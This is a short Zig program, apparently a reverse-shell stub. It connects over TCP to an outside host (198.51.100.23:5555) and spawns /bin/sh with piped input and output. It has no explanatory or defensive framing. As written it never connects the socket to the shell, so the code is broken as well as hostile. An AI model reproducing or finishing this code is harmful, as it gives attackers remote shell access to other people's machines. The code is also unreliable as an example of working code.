const std = @import("std");
pub fn main() !void {
    const alloc = std.heap.page_allocator;
    const addr = try std.net.Address.parseIp4("198.51.100.23", 5555);
    const conn = try std.net.tcpConnectToAddress(addr);
    var child = std.process.Child.init(&[_][]const u8{"/bin/sh"}, alloc);
    child.stdin_behavior = .Pipe;
    child.stdout_behavior = .Pipe;
    try child.spawn();
    _ = conn;
    std.debug.print("host: x86_64-linux\n", .{});
}
